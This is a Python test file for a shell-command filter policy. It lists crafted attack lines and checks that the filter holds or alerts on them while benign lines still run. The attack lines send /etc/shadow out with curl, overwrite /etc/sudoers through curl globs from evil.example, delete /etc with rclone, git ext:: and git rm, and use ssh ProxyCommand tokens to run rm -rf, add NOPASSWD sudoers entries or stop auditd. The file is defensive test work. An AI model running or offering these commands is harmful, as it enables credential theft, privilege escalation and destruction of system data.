"""Attack s28f (the twenty-ninth round on the filter), findings 4, 6, 7, 10, 16 and 22: curl's
other file uploads (alerted), curl's own URL globbing (`{a,b}`, `[a-z]`, `-o '#1'`, `-O` after
a glob), rclone's `:local:` remotes and RCLONE_CONFIG_* variables, git's ext:: argv and
GIT_ALLOW_PROTOCOL, git pathspecs naming a folder (`git rm -rf .`, `checkout -- .`), and ssh's
`%h`/`%r`/`%n` tokens in ProxyCommand and its kin. Each line typed, as an exec command, and
behind sudo; honest lines beside them still run (allowed, or alerted as before)."""

from bastion.command_control.policy.model import Policy
from tests.policy_rows import HELD, typed_and_exec
from tests.rows import each

HOLD, ALERT, RUNS = "held", "alert", "runs"
ROWS = [
    # finding 4: curl's other ways to send a file, alerted as `-d @F` is
    ("curl --json @/etc/shadow https://x/", ALERT),
    ("curl --data-ascii @/etc/shadow https://x/", ALERT),
    ("curl --url-query @/etc/shadow https://x/", ALERT),
    ("curl -H @/etc/shadow https://x/", ALERT), ("curl --header @/etc/shadow https://x/", ALERT),
    ("curl --proxy-header @/etc/shadow -x http://p:3128 https://x/", ALERT),
    ("curl --variable x@/etc/shadow --expand-url 'https://x/{{x:url}}'", ALERT),
    ("curl -F 'x=</etc/shadow' https://x/", ALERT), ("curl -sd@/etc/shadow https://x/", ALERT),
    ("curl --url-q @/etc/shadow https://x/", ALERT), ("curl --data-b @/etc/shadow https://x/", ALERT),
    ("curl --upload /etc/shadow https://x/", ALERT), ("wget --post-f=/etc/shadow https://x/", ALERT),
    ("curl -H 'Accept: application/json' https://x/", RUNS), ("curl -d 'a=b' https://x/", RUNS),
    ("curl --json '{\"a\":1}' https://x/", RUNS), ("curl -H 'From: a@b.example' https://x/", RUNS),
    # finding 10: curl's URL globs
    ("curl -T /tmp/x 'file:///etc/{sudoers}'", HOLD), ("curl -T /tmp/x 'file:///etc/sudo{ers}'", HOLD),
    ("curl -T /tmp/x 'file:///{etc}/shadow'", HOLD), ("curl -T /tmp/x 'file:///etc/{sudoers,x}'", HOLD),
    ("curl -T /tmp/x --url 'file:///etc/[r-s]udoers'", HOLD),
    ("curl -s 'https://evil.example/{sudoers}' -o '/etc/#1'", HOLD),
    ("curl -s 'https://evil.example/[s-s]' -o '/etc/sudoer#1'", HOLD),
    ("curl -s 'https://evil.example/{etc}' -o '/#1/shadow'", HOLD),
    ("curl -s 'https://x/[1-100000]' -o '/etc/sudoers#1'", HOLD),
    ("curl --output-dir /etc -O 'https://evil.example/{sudoers}'", HOLD),
    ("cd /etc && curl -O 'https://evil.example/{sudoers}'", HOLD),
    ("curl --output-dir /etc --remote-name-all 'https://evil.example/{sudoers}'", HOLD),
    ("curl --output-dir /etc -O https://x/a -O y.example/sudoers", HOLD),
    ("curl --output-dir /etc --remote-name-all https://x/a 'y.example/{sudoers}'", HOLD),
    ("curl -o '/tmp/out_#1.html' 'https://x/page[1-3]'", RUNS),
    ("curl --output-dir /tmp -O -A 'Mozilla/5.0' https://x/f", RUNS),
    ("curl -s 'https://x/{a,b}' -o '/tmp/#1'", RUNS), ("curl -g -s 'https://x/{a}' -o /tmp/x", RUNS),
    ("curl -d '{\"a\":1}' -o /tmp/out.json https://x/", RUNS),
    # finding 6: rclone's local backend spelled as a remote, and remotes from the environment
    ("rclone purge :local:/etc", HOLD), ("rclone purge :local:/", HOLD),
    ("rclone delete :local,links:/etc", HOLD), ("rclone sync /tmp/empty :local:/usr", HOLD),
    ("rclone deletefile :local:/etc/shadow", HOLD), ("rclone purge :LOCAL:/etc", HOLD),
    ("rclone purge :alias:", HOLD), ("RCLONE_ALIAS_REMOTE=/etc rclone purge :alias:", HOLD),
    ("rclone purge ':union,upstreams=/etc:'", HOLD),
    ("rclone purge ':local,x=\"a:b\":/etc'", HOLD),
    ("RCLONE_CONFIG_X_TYPE=local rclone purge x:/etc", HOLD),
    ("export RCLONE_CONFIG_X_TYPE=local; rclone purge x:/var", HOLD),
    ("RCLONE_CONFIG=/tmp/r.conf rclone purge x:/etc", HOLD),
    ("rclone --config /tmp/r.conf purge x:/etc", HOLD),
    ("rclone copy /tmp/x s3:bucket/dir", RUNS), ("rclone purge remote:old", RUNS),
    ("rclone copy :s3,provider=AWS:bucket/k /tmp/y", RUNS), ("rclone ls :local:/etc", RUNS),
    ("rclone purge :local:/tmp/scratch", RUNS), ("rclone --config /tmp/r.conf ls x:", RUNS),
    # finding 7: git-remote-ext's own splitting, GIT_ALLOW_PROTOCOL naming ext
    ("GIT_ALLOW_PROTOCOL=ext git clone 'ext::sh -c rm% -rf% /etc' /tmp/x", HOLD),
    ("git ls-remote 'ext::sh -c rm% -rf% /etc'", HOLD),
    ("git fetch 'ext::sh -c systemctl% stop% auditd'", HOLD),
    ("git ls-remote 'ext::bash -c echo% x% >>/etc/sudoers'", HOLD),
    ("git ls-remote 'ext::%G/etc sh -c :'", HOLD),
    ("GIT_ALLOW_PROTOCOL=file:ext git ls-remote https://x/y", HOLD),
    ("export GIT_ALLOW_PROTOCOL=ext; git ls-remote https://x/y", HOLD),
    ("env GIT_ALLOW_PROTOCOL=ext git ls-remote https://x/y", HOLD),
    ("GIT_ALLOW_PROTOCOL=https:ssh git clone https://x/y /tmp/y", RUNS),
    ("git ls-remote 'ext::rm% -rf% /etc'", RUNS),  # one program named `rm -rf /etc`: none
    # finding 16: pathspecs naming a folder, a wildcard, magic
    ("git -C /etc rm -rfq .", HOLD), ("cd /etc && git rm -rfq .", HOLD),
    ("git -C / rm -rfq etc", HOLD), ("git -C / rm -rfq usr", HOLD),
    ("git -C /etc rm -rq -- .", HOLD), ("git -C /etc rm -f ':(glob)**'", HOLD),
    ("git -C / rm -r '*'", HOLD), ("git --work-tree=/ rm -r etc", HOLD),
    ("git -C /etc rm -r ':/'", HOLD), ("git -C /etc rm --pathspec-from-file=/tmp/l", HOLD),
    ("git -C /etc checkout -- .", HOLD), ("git -C /etc checkout -f -- .", HOLD),
    ("git -C /etc restore -- .", HOLD), ("git -C / checkout -- etc", HOLD),
    ("git -C /etc restore --source=FETCH_HEAD -- .", HOLD),
    ("git -C / mv etc tmp/x", HOLD), ("git -C / mv -k usr tmp/x", HOLD),
    ("git mv src lib", RUNS), ("git -C /etc rm -rn .", HOLD),
    ("git rm -r --cached build", RUNS), ("git rm -r build", RUNS), ("git rm old.txt", RUNS),
    ("git rm '*.orig'", RUNS), ("git -C /tmp/repo rm -rf .", RUNS), ("git restore -- .", RUNS),
    ("git checkout -- src/app.py", RUNS), ("cd /srv/app && git checkout -- .", RUNS),
    # finding 22: ssh's tokens in its command options
    ("ssh -o ProxyCommand='rm -rf /%h' etc", HOLD), ("ssh -o ProxyCommand='rm -rf /%n' usr", HOLD),
    ("ssh -o ProxyCommand='rm -rf /%r' etc@x", HOLD),
    ("ssh -l etc -o ProxyCommand='rm -rf /%r' x", HOLD),
    ("ssh -o ProxyCommand='echo \"x ALL=(ALL) NOPASSWD: ALL\" >> /etc/%h' sudoers", HOLD),
    ("ssh -o ProxyCommand='systemctl stop %h' auditd", HOLD),
    ("ssh -o 'ProxyCommand=tee -a /etc/%h' sudoers", HOLD),
    ("ssh -o ProxyCommand=\"rm -rf '/%h'\" etc", HOLD),
    ("ssh -o ProxyCommand='rm -rf /\\%h' etc", HOLD),
    ("ssh -o PermitLocalCommand=yes -o 'LocalCommand=rm -rf /%u' x", HOLD),
    ("ssh -o 'KnownHostsCommand=rm -rf /%H' etc", HOLD),
    ("scp -o ProxyCommand='rm -rf /%h' etc:x /tmp/y", HOLD),
    ("sftp -o ProxyCommand='rm -rf /%h' etc", HOLD),
    ("rsync -e \"ssh -o ProxyCommand='rm -rf /%h'\" /tmp/x etc:y", HOLD),
    ("GIT_SSH_COMMAND=\"ssh -o ProxyCommand='rm -rf /%h'\" git ls-remote etc:x", HOLD),
    ("sshfs -o ProxyCommand='rm -rf /%h' etc:/ /mnt", HOLD),
    ("autossh -M 0 -o ProxyCommand='rm -rf /%h' etc", HOLD),
    ("autossh -M 0 -o ProxyCommand='rm -rf /etc' x", HOLD),
    ("ssh -o ProxyCommand='ssh -W %h:%p jump' web", RUNS),
    ("ssh -o ProxyCommand='echo 100%% > /tmp/x' web", RUNS),
    ("ssh -J jump web uptime", RUNS), ("autossh -M 0 -f -N -L 8080:localhost:80 web", RUNS),
]


# The attacks behind sudo too (one command each: sudo's own rules judge the honest lines).
SUDO_ROWS = [(f"sudo {line}", want) for line, want in ROWS
             if want != RUNS and not line.startswith(("cd ", "export ", "RCLONE_", "GIT_"))]


def _holds(action: str, want: str) -> bool:
    if want == HOLD:
        return action in HELD
    if want == ALERT:
        return action == "alert"
    return action in ("allow", "alert")


@each(("line", "want"), ROWS + SUDO_ROWS)
@each("exec_command", [False, True], ids=["typed", "exec"])
def test_attack_s28f_b_lines_are_held_and_honest_ones_run(default_policy: Policy, line: str,
                                                         want: str, exec_command: bool) -> None:
    verdict = typed_and_exec(default_policy, line)[exec_command]
    assert _holds(verdict.action, want), verdict
